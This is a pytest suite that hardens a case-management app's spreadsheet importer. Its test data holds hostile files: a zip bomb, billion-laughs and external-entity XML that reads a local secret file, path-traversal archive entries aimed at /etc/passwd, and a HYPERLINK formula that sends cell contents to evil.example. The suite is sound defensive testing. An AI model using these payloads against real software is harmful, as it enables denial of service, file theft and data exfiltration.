"""Attack: a sheet made to break, fill or deceive the desk that imports it: told, nothing made, nothing read elsewhere.

Each is brought by a colleague in good faith and read in the child behind its walls, as in earnest.
"""

import io
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from amparo.desk import importing, sandbox, spreadsheets
from amparo.desk.configuration import data_folder
from amparo.desk.records import Case, Import, ImportedRow
from amparo.desk.spreadsheets import SheetNotRead
from amparo.gather import tables
from amparo.share import casefile
from tests.desk import people, sheets
from tests.desk.conftest import cheap_passwords, desk, ground  # noqa: F401  (fixtures)
from tests.gather import workbook_parts as parts


@pytest.fixture(autouse=True)
def walls() -> None:
    if not sandbox.capabilities().level:
        pytest.skip("LOUD: this machine raises no walls, so no sheet is read on it")


def refused(desk: people.Desk, content: bytes) -> str:  # noqa: F811
    one = sheets.bring(desk.team["Wren"], content)
    began = time.monotonic()
    with pytest.raises(SheetNotRead) as told:
        importing.look(desk.team["Wren"], one)
    assert time.monotonic() - began < 60 and told.value.advice
    assert not Case.objects.exists()
    return told.value.code


def cell(text: str) -> str:
    return parts.sheet(parts.text_row(1, "What happened") + parts.text_row(2, text))


def test_a_zip_bomb_is_refused_before_it_fills_anything(desk: people.Desk) -> None:  # noqa: F811
    bomb = parts.excel({"s": parts.sheet(parts.text_row(1, "a") + "<row r='2'>" + " " * (300 << 20) + "</row>")})
    assert len(bomb) < 2_000_000
    assert refused(desk, bomb) == "table-large"
    strings = parts.strings() .replace("</sst>", "<si><t>" + "x" * (140 << 20) + "</t></si></sst>")
    assert refused(desk, parts.excel({"s": cell("a")}, shared=strings)) == "table-large"


@pytest.mark.parametrize(
    "place", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"]
)
def test_a_billion_laughs_are_not_told(desk: people.Desk, place: str) -> None:  # noqa: F811
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    evil = f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst xmlns="{parts.MAIN}"><si><t>&a9;</t></si></sst>'
    assert refused(desk, parts.excel({"s": cell("a")}, more={place: evil})) == "table-hostile"


def test_an_outer_entity_reads_no_file_of_the_machine(desk: people.Desk) -> None:  # noqa: F811
    secret = data_folder() / "site" / "pepper"
    assert secret.exists()
    evil = (
        f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file://{secret}">]>'
        f'<sst xmlns="{parts.MAIN}"><si><t>&x;</t></si></sst>'
    )
    assert refused(desk, parts.excel({"s": cell("a")}, shared=evil)) == "table-hostile"


def test_a_part_that_points_out_of_the_archive_is_not_followed(desk: people.Desk) -> None:  # noqa: F811
    links = (
        f'<Relationships xmlns="{parts.PACKAGE}/relationships"><Relationship Id="rId1" Type="{parts.OFFICE}/worksheet" '
        'Target="../../../../etc/passwd"/></Relationships>'
    )
    assert refused(desk, parts.excel({"s": cell("a")}, more={"xl/_rels/workbook.xml.rels": links})) == "table-empty"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("../../escaped.xml", "<x/>")
        packed.writestr("/etc/escaped.xml", "<x/>")
    assert refused(desk, out.getvalue()) == "table-kind"
    assert not list(Path("/").glob("etc/escaped*")) and not list(data_folder().parent.rglob("escaped.xml"))


@pytest.mark.parametrize(("content", "code"), [
    (b"a" + b"," * 1_000_000 + b"\n", "table-columns"),
    (parts.excel({"s": parts.sheet('<row r="1"><c r="XFD1" t="n"><v>1</v></c></row>')}), "table-columns"),
    (b"What happened\n" + b"\0" * 4_000, "table-kind"), (b'"' + b"never closed " * 5_000, "table-cell"),
    (parts.excel({"s": cell("a")})[:-40], "table-broken"), (b"\xff\xfe\x00", "table-empty"),
    (parts.excel({"s": "<worksheet><sheetData><row>"}), "table-broken"),
    (parts.excel({"s": parts.sheet('<row r="1"><c r="A1" t="s"><v>4294967296</v></c></row>')}), "table-broken"),
])
def test_a_sheet_out_of_all_bounds_is_told_by_its_reason(
    desk: people.Desk, content: bytes, code: str  # noqa: F811
) -> None:
    assert refused(desk, content) == code


def test_formulas_are_text_here_and_stay_text_in_what_leaves(desk: people.Desk) -> None:  # noqa: F811
    wren = desk.team["Wren"]
    evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    one = sheets.mapped(wren, f"What happened,Ref\n\"{evil.replace(chr(34), chr(34) * 2)}\",@SUM(1)\n".encode())
    (line,) = (importing.known(wren, one).account or pytest.fail("no account")).lines
    assert line.outcome == "made"
    assert importing.look(wren, one).sample[0].cells == (evil, "@SUM(1)")
    for text in (evil, "+1", "-1", "@x", "\t=1", "\r=1"):
        assert casefile.table(("a",), [(text,)]).decode("utf-8-sig").splitlines()[1].lstrip('"').startswith("'")


def test_ten_thousand_overlapping_merges_end(desk: people.Desk) -> None:  # noqa: F811
    merges = "".join('<mergeCell ref="A1:ALL1048576"/>' for _ in range(30_000))
    rows = "".join(parts.text_row(number, "x") for number in range(1, 40))
    content = parts.excel({"s": parts.sheet(rows, after=f"<mergeCells>{merges}</mergeCells>")})
    one = sheets.bring(desk.team["Wren"], content)
    began = time.monotonic()
    try:
        look = importing.look(desk.team["Wren"], one)
        assert "many-merged" in {said.code for said in look.content.said}
    except SheetNotRead as told:
        assert told.code in ("sheet-timeout", "sheet-memory", "sheet-crashed")
    assert time.monotonic() - began < 100


def test_a_captured_reader_is_believed_no_further_than_its_shape(
    desk: people.Desk, monkeypatch: pytest.MonkeyPatch  # noqa: F811
) -> None:
    import msgspec

    wren = desk.team["Wren"]
    one = sheets.bring(wren, sheets.register(1))
    about = sandbox.Piece("about", msgspec.msgpack.encode(tables.About("csv", (tables.Sheet("s"),))))
    for rows in (
        [tables.Row(2, ("a",)), tables.Row(1, ("b",))], [tables.Row(1, ("x" * 50_000,))],
        [tables.Row(1, ("a",) * 2_000)],
        [tables.Row(1, ("a",), (tables.Note(0, "sudo"),))], [],
    ):
        pieces = (about, sandbox.Piece("rows", msgspec.msgpack.encode(rows)))
        lie = sandbox.Outcome("done", "namespaces", 0.1, pieces=pieces)
        monkeypatch.setattr(spreadsheets.sandbox, "run", lambda *_, told=lie, **__: told)
        with pytest.raises(SheetNotRead):
            importing.look(wren, one)
    junk = sandbox.Outcome("done", "namespaces", 0.1, pieces=(about, sandbox.Piece("rows", b"\xc1\xff" * 100)))
    monkeypatch.setattr(spreadsheets.sandbox, "run", lambda *_, **__: junk)
    with pytest.raises(SheetNotRead):
        importing.look(wren, one)


KILLED = """
import os, sys, threading, time
os.environ["DJANGO_SETTINGS_MODULE"] = "amparo.desk.settings"
import django
django.setup()
from django.conf import settings
settings.DATABASES["default"]["NAME"] = sys.argv[1]
import msgspec
from amparo import seal
from amparo.desk import accounts, import_runs
from amparo.desk.records import Import
raw = sys.stdin.buffer.read()
staff = msgspec.msgpack.decode(raw, type=accounts.OpenStaff)
real = import_runs._file_some
def some(*given):
    real(*given)
    print("batch", flush=True)
import_runs._file_some = some
import_runs.work(staff, __import__("uuid").UUID(sys.argv[2]))
print("end", flush=True)
"""


def test_a_process_killed_in_the_middle_loses_nothing_and_doubles_nothing(desk: people.Desk) -> None:  # noqa: F811
    import msgspec
    from django.db import connection

    from amparo.desk import import_runs

    wren = desk.team["Wren"]
    one = sheets.mapped(wren, sheets.register(120))
    Import.objects.filter(id=one).update(state="running")
    name = str(connection.settings_dict["NAME"])
    killed = 0
    for _ in range(3):
        child = subprocess.Popen(
            [sys.executable, "-c", KILLED, name, str(one)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            stderr=subprocess.PIPE, env={**os.environ, "PYTHONPATH": ":".join(sys.path)},
        )
        assert child.stdin and child.stdout and child.stderr
        child.stdin.write(msgspec.msgpack.encode(wren))
        child.stdin.close()
        line = child.stdout.readline()
        assert line == b"batch\n", child.stderr.read().decode()[-2_000:]
        child.send_signal(signal.SIGKILL)
        child.wait()
        killed += 1
        assert 0 < Case.objects.count() == ImportedRow.objects.count() < 120
    import_runs.work(wren, one)
    assert killed == 3 and Case.objects.count() == 120 == ImportedRow.objects.count()
    account = importing.known(wren, one).account
    assert account is not None and account.counts["made"] == 120
